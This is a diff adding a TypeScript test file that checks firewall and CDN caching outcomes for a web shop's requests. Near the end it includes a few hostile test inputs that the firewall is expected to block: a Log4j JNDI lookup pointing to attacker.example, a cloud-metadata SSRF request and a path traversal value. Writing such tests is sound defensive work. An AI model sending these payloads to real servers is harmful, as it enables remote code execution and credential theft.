@@ -1,0 +1,113 @@
+import { platform } from './platform-fixtures';
+import { FirewallRequest, firewall } from '../../tools/requests/firewall';
+import { route } from '../../tools/requests/route';
+
+const templates = platform();
+const HTML = { Accept: 'text/html,application/xhtml+xml,*/*;q=0.8' };
+const JAPANESE = '%E6%97%A5';
+const preflight = { 'Origin': 'https://partner.example', 'Access-Control-Request-Method': 'GET', 'Access-Control-Request-Headers': 'x-trace' };
+const get = (uri: string, headers: Record<string, string> = {}): FirewallRequest => ({ uri, headers });
+const send = (method: string, uri: string, bodySize: number, headers = {}): FirewallRequest => ({ method, uri, bodySize, headers });
+
+/** The rule that decides; or who answers, and for how long CloudFront keeps the answer of a backend that sends no `Cache-Control`. */
+function outcome({ uri = '/', method, headers = {}, ...request }: FirewallRequest): string {
+  const { action, rule } = firewall(templates, { uri, method, headers, ...request });
+  if (action !== 'ALLOW') return `${action} ${rule.replace(/AWSManagedRules(\w+)\//, '')}`;
+  const { status, origin, ttl = 0 } = route(templates, { url: `https://eldonia.example${uri}`, method, headers: Object.keys(headers) });
+  return status === undefined ? `${origin}${ttl > 0 ? ` ${ttl / 3_600} h` : ''}` : String(status);
+}
+
+test.each<[string, FirewallRequest, string]>([
+  ['a page', get('/', HTML), 'load balancer'],
+  ['a page in Japanese', get(`/${JAPANESE.repeat(20)}`, HTML), 'load balancer'],
+  ['a page with the parameters of a campaign', get('/?utm_source=a&utm_medium=b&gclid=abc', HTML), 'load balancer'],
+  ['a script', get('/app.js'), 'load balancer 168 h'],
+  ['a script with a hash', get('/static/app.1a2b3c4d5e.js'), 'load balancer 168 h'],
+  ['a module', get('/app.mjs'), 'load balancer 168 h'],
+  ['a style sheet', get('/app.css?v=2'), 'load balancer 168 h'],
+  ['a font', get('/font.woff2', { Origin: 'https://eldonia.example' }), 'load balancer 168 h'],
+  ['an icon of the site', get('/favicon.ico'), 'load balancer 24 h'],
+  ['an image', get('/a.png'), 'load balancer 24 h'],
+  ['a part of an image', get('/a.png', { Range: 'bytes=0-99' }), 'load balancer 24 h'],
+  ['an image that the browser has', get('/a.png', { 'If-None-Match': '"1"' }), 'load balancer 24 h'],
+  ['an image with an ending in capitals', get('/a.PNG'), 'load balancer'],
+  ['a source map', get('/app.js.map'), 'load balancer'],
+  ['a video', get('/a.mp4', { Range: 'bytes=0-' }), 'load balancer'],
+  ['a document', get('/terms.pdf'), 'load balancer'],
+  ['the manifest of an app', get('/manifest.webmanifest'), 'load balancer'],
+  ['a service worker', get('/sw.js', { 'Service-Worker': 'script' }), 'load balancer 168 h'],
+  ['robots.txt', get('/robots.txt'), 'load balancer'],
+  ['a site map', get('/sitemap.xml'), 'load balancer'],
+  ['the links of an app', get('/.well-known/apple-app-site-association'), 'load balancer'],
+  ['a challenge of ACME', get('/.well-known/acme-challenge/abc'), 'load balancer'],
+  ['a picture of a user', get('/media/alice/photo.jpg/large.webp'), 'bucket 24 h'],
+  ['a picture that is missing', get('/media/none'), 'bucket 24 h'],
+  ['an original, which is private', get('/originals/alice/photo.jpg'), 'load balancer 24 h'],
+
+  ['a call of the API', get('/api/products?page=2', { Authorization: 'Bearer abc' }), 'load balancer'],
+  ['a call with a session', get('/api/me', { Cookie: '__Host-session=abc' }), 'load balancer'],
+  ['a call from another site', get('/api/products', { Origin: 'https://partner.example' }), 'load balancer'],
+  ['a preflight request of the API', { method: 'OPTIONS', uri: '/api/products', headers: preflight }, 'load balancer'],
+  ['a preflight request of a script', { method: 'OPTIONS', uri: '/a.js', headers: preflight }, 'load balancer'],
+  ['an order', send('POST', '/api/orders', 5_000), 'load balancer'],
+  ['an order in Japanese, of 4,000 characters', send('POST', '/api/orders', 12_000), 'load balancer'],
+  ['a change', send('PATCH', '/api/me', 100), 'load balancer'],
+  ['a deletion', send('DELETE', '/api/notes/1', 0), 'load balancer'],
+  ['a large order', send('POST', '/api/orders', 20_000), 'BLOCK LargeBodies'],
+  ['an avatar in base64', send('PUT', '/api/me/avatar', 200_000), 'BLOCK LargeBodies'],
+  ['a file through the API', send('POST', '/api/files', 20_000_000, { 'Content-Type': 'multipart/form-data' }), 'BLOCK LargeBodies'],
+  ['a form for an upload to S3', send('POST', '/api/uploads', 60), 'load balancer'],
+  ['a query of GraphQL', send('POST', '/graphql', 3_000), 'load balancer'],
+  ['a query of GraphQL in the address', get(`/graphql?query=${'a'.repeat(2_100)}`), 'BLOCK SizeRestrictions_QUERYSTRING'],
+  ['a body with words of SQL, if AWS finds them', { ...send('POST', '/graphql', 3_000), matches: ['SQLi_BODY'] }, 'BLOCK SQLi_BODY'],
+  ['a text of an editor, if AWS finds HTML', { ...send('POST', '/api/posts', 3_000), matches: ['CrossSiteScripting_BODY'] }, 'BLOCK CrossSiteScripting_BODY'],
+  ['a search of 227 characters', get(`/search?q=${JAPANESE.repeat(227)}`, HTML), 'load balancer'],
+  ['a search of 228 characters', get(`/search?q=${JAPANESE.repeat(228)}`, HTML), 'BLOCK SizeRestrictions_QUERYSTRING'],
+  ['a title of 114 characters in the path', get(`/${JAPANESE.repeat(114)}`, HTML), 'BLOCK SizeRestrictions_URIPATH'],
+  ['a callback of a login service', get(`/callback?code=${'a'.repeat(1_500)}&state=b`, HTML), 'load balancer'],
+  ['a long callback of a login service', get(`/callback?code=${'a'.repeat(2_100)}`, HTML), 'BLOCK SizeRestrictions_QUERYSTRING'],
+  ['a callback that is posted', send('POST', '/callback', 3_000), 'load balancer'],
+  ['a token of 6,000 bytes', get('/api/me', { Authorization: `Bearer ${'a'.repeat(6_000)}` }), 'load balancer'],
+  ['a token of 9,000 bytes', get('/api/me', { Authorization: `Bearer ${'a'.repeat(9_000)}` }), 'BLOCK LargeHeaders'],
+  ['many cookies', get('/', { ...HTML, Cookie: 'a'.repeat(8_200) }), 'BLOCK LargeHeaders'],
+  ['a redirect with an address that has a number', get('/go?to=http://203.0.113.7/a', HTML), 'BLOCK GenericRFI_QUERYARGUMENTS'],
+  ['a redirect with an address that has a name', get('/go?to=https://partner.example/a', HTML), 'load balancer'],
+  ['a relative path in a parameter', get('/go?to=../../a', HTML), 'BLOCK GenericLFI_QUERYARGUMENTS'],
+
+  ['a browser by IPv6', { ...get('/', HTML), ip: '2001:db8::1' }, 'load balancer'],
+  ['a native app', get('/api/products', { 'Accept': 'application/json', 'User-Agent': 'Shop/1.0 CFNetwork' }), 'load balancer'],
+  ['a partner with curl', get('/api/products', { 'User-Agent': 'curl/8.9.0' }), 'load balancer'],
+  ['a partner without User-Agent', get('/api/products', { 'User-Agent': '' }), 'BLOCK NoUserAgent_HEADER'],
+  ['a WebSocket', get('/socket', { 'Upgrade': 'websocket', 'Sec-WebSocket-Key': 'abc' }), 'load balancer'],
+  ['server-sent events', get('/api/events', { Accept: 'text/event-stream' }), 'load balancer'],
+  ['a webhook of a payment service', send('POST', '/api/webhooks/pay', 6_000, { 'Stripe-Signature': 'abc' }), 'load balancer'],
+  ['Googlebot', get('/products', { ...HTML, 'User-Agent': 'Mozilla/5.0 (compatible; Googlebot/2.1)' }), 'load balancer'],
+  ['a monitor that asks for the headers', { method: 'HEAD', uri: '/' }, 'load balancer'],
+  ['the probe of the site', get('/ready', { 'User-Agent': 'eldonia-site-probe' }), 'load balancer'],
+  ['the liveness check from outside', get('/health'), 'load balancer'],
+
+  ['a page in the 20,001st view of its network', { ...get('/', HTML), networkRate: 20_001 }, 'CHALLENGE NetworkRateLimit'],
+  ['the same after the challenge', { ...get('/', HTML), networkRate: 20_001, challenged: true }, 'load balancer'],
+  ['an order of the same network', { ...send('POST', '/api/orders', 500), networkRate: 20_001 }, 'load balancer'],
+  ['a script of the same network', { ...get('/app.js'), networkRate: 20_001 }, 'load balancer 168 h'],
+  ['a native app of the same network', { ...get('/api/products', { Accept: 'application/json' }), networkRate: 20_001 }, 'load balancer'],
+  ['the 12,000th call of an address', { ...get('/api/products'), rate: 12_000 }, 'load balancer'],
+  ['the 12,001st call of an address', { ...get('/api/products'), rate: 12_001 }, 'BLOCK RateLimit-without-files'],
+  ['the 12,001st file of an address', { ...get('/app.js'), rate: 12_001 }, 'load balancer 168 h'],
+  ['the 50,001st file of an address', { ...get('/app.js'), rate: 50_001 }, 'BLOCK RateLimit'],
+
+  ['a scanner that looks for logs', get('/debug.log'), 'BLOCK RestrictedExtensions_URIPATH'],
+  ['a scanner of Java', get('/WEB-INF/web.xml'), 'BLOCK ExploitablePaths_URIPATH'],
+  ['a scanner of Log4j', get('/', { 'User-Agent': '${jndi:ldap://attacker.example/a}' }), 'BLOCK Log4JRCE_HEADER'],
+  ['a request for the credentials of a machine', get('/go?to=http://169.254.169.254/latest'), 'BLOCK EC2MetaDataSSRF_QUERYARGUMENTS'],
+  ['WebDAV', { method: 'PROPFIND', uri: '/' }, 'BLOCK PROPFIND_METHOD'],
+  ['a write to a picture', send('PUT', '/media/a', 100), '403'],
+])('%s', (_, request, expected) => {
+  expect(outcome(request)).toBe(expected);
+});
+
+test.each(['/a.js', '/a.png'])('a preflight request of %s reaches the backend with all that its answer depends on, which is part of the cache key', (path) => {
+  const names = ['host', ...Object.keys(preflight)];
+
+  expect(route(templates, { method: 'OPTIONS', url: `https://eldonia.example${path}`, headers: Object.keys(preflight) })).toMatchObject({ forwarded: names, keyed: names });
+});
